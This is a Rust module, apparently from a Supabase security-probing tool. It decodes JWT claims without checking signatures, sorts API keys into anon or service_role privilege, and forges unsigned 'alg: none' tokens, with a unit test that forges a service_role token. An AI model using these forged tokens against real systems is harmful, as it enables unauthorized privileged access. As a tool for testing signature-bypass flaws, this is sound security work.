//! Minimal JWT handling: reading claims without verification and forging
//! unsigned tokens for signature-bypass probes.

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Value, json};

use crate::error::AttackError;

/// Prefix of the new-style Supabase secret (service-role equivalent) keys.
pub const SECRET_KEY_PREFIX: &str = "sb_secret_";

/// Decodes the payload segment of a JWT without checking its signature.
pub fn decode_claims(token: &str) -> Result<Value, AttackError> {
    let mut segments = token.trim().split('.');
    let (Some(_header), Some(payload), Some(_signature)) = (segments.next(), segments.next(), segments.next()) else {
        return Err(AttackError::decode("JWT", "expected three dot-separated segments"));
    };

    let bytes = URL_SAFE_NO_PAD
        .decode(payload.trim_end_matches('='))
        .map_err(|e| AttackError::decode("JWT payload", e))?;

    serde_json::from_slice(&bytes).map_err(|e| AttackError::decode("JWT payload", e))
}

/// Returns the `role` claim of a decoded payload.
#[must_use]
pub fn role(claims: &Value) -> Option<&str> {
    claims.get("role").and_then(Value::as_str)
}

/// Classifies an API key by the privilege it grants.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum KeyKind {
    /// A JWT carrying `role: anon`, or a publishable key.
    Anon,
    /// A JWT carrying `role: service_role`, or an `sb_secret_` key.
    ServiceRole,
    /// A JWT with some other role.
    Other(String),
    /// Not a JWT and not a recognised key format.
    Opaque,
}

/// Works out what kind of key `key` is.
#[must_use]
pub fn classify_key(key: &str) -> KeyKind {
    let key = key.trim();
    if key.starts_with(SECRET_KEY_PREFIX) {
        return KeyKind::ServiceRole;
    }
    if key.starts_with("sb_publishable_") {
        return KeyKind::Anon;
    }

    match decode_claims(key).ok().as_ref().and_then(role) {
        Some("anon") => KeyKind::Anon,
        Some("service_role") => KeyKind::ServiceRole,
        Some(other) => KeyKind::Other(other.to_string()),
        None => KeyKind::Opaque,
    }
}

/// Builds a token with `alg: none` and an empty signature.
#[must_use]
pub fn forge_unsigned(claims: &Value) -> String {
    let header = json!({ "alg": "none", "typ": "JWT" });
    format!(
        "{}.{}.",
        URL_SAFE_NO_PAD.encode(header.to_string()),
        URL_SAFE_NO_PAD.encode(claims.to_string())
    )
}

#[cfg(test)]
pub(crate) fn sign_fake(claims: &Value) -> String {
    let header = json!({ "alg": "HS256", "typ": "JWT" });
    format!(
        "{}.{}.c2lnbmF0dXJl",
        URL_SAFE_NO_PAD.encode(header.to_string()),
        URL_SAFE_NO_PAD.encode(claims.to_string())
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn decodes_payload_claims() {
        let token = sign_fake(&json!({"role": "anon", "ref": "abc"}));
        let claims = decode_claims(&token).unwrap();
        assert_eq!(role(&claims), Some("anon"));
        assert_eq!(claims["ref"], "abc");
    }

    #[test]
    fn rejects_tokens_without_three_segments() {
        assert!(decode_claims("abc.def").is_err());
        assert!(decode_claims("").is_err());
    }

    #[test]
    fn rejects_non_json_payloads() {
        let token = format!("x.{}.y", URL_SAFE_NO_PAD.encode("not json"));
        assert!(decode_claims(&token).is_err());
    }

    #[test]
    fn classifies_keys() {
        assert_eq!(classify_key(&sign_fake(&json!({"role": "anon"}))), KeyKind::Anon);
        assert_eq!(
            classify_key(&sign_fake(&json!({"role": "service_role"}))),
            KeyKind::ServiceRole
        );
        assert_eq!(
            classify_key(&sign_fake(&json!({"role": "authenticated"}))),
            KeyKind::Other("authenticated".into())
        );
        assert_eq!(classify_key("sb_secret_abcdef"), KeyKind::ServiceRole);
        assert_eq!(classify_key("sb_publishable_abcdef"), KeyKind::Anon);
        assert_eq!(classify_key("plain"), KeyKind::Opaque);
    }

    #[test]
    fn forged_token_has_empty_signature_and_none_alg() {
        let token = forge_unsigned(&json!({"role": "service_role"}));
        assert!(token.ends_with('.'));

        let header = token.split('.').next().unwrap();
        let decoded = URL_SAFE_NO_PAD.decode(header).unwrap();
        let header: Value = serde_json::from_slice(&decoded).unwrap();
        assert_eq!(header["alg"], "none");

        let claims = decode_claims(&token).unwrap();
        assert_eq!(role(&claims), Some("service_role"));
    }
}
